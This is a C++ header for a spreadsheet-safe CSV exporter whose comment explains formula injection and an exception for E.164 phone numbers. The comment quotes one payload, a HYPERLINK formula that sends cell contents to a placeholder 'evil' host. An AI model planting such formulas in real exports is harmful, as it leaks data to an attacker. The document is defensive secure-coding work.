// CSV as RFC 4180 describes it, made safe to open in a spreadsheet.
//
// Wire: UTF-8, an optional BOM (EF BB BF), a header row of field names,
// CRLF after every record; a cell is quoted when it holds a comma, a double
// quote, CR or LF, and a quote inside is doubled.
//
// Formula injection (OWASP "CSV Injection"; CVE-2021-41270): spreadsheet
// programs evaluate a cell that starts with = + - @ TAB or CR, so a lead
// named `=HYPERLINK("http://evil/?"&A1)` would run when the file is opened.
// Such text cells get a leading apostrophe, which spreadsheets show as text
// and do not evaluate. One exception keeps phone numbers readable and exact:
// a cell made only of E.164 numbers (`+` then 6 to 15 digits, several
// separated by single spaces) is written as is. It cannot call a function,
// reference a cell or reach another sheet; the worst a spreadsheet does with
// it is read `+33612345678` as a number. Numeric fields (id, score,
// interactions) are never touched: they are ours, not user text.
#pragma once

#include <string>
#include <string_view>

namespace webox::exporting {

// True when a spreadsheet would evaluate `cell` and it is not E.164 numbers.
bool needs_formula_guard(std::string_view cell);

// True when `cell` is one or more E.164 numbers separated by single spaces.
bool is_e164_list(std::string_view cell);

// Appends `cell` to `out` as one CSV field (guarded and quoted as needed).
void append_csv_cell(std::string &out, std::string_view cell, bool guard);

} // namespace webox::exporting
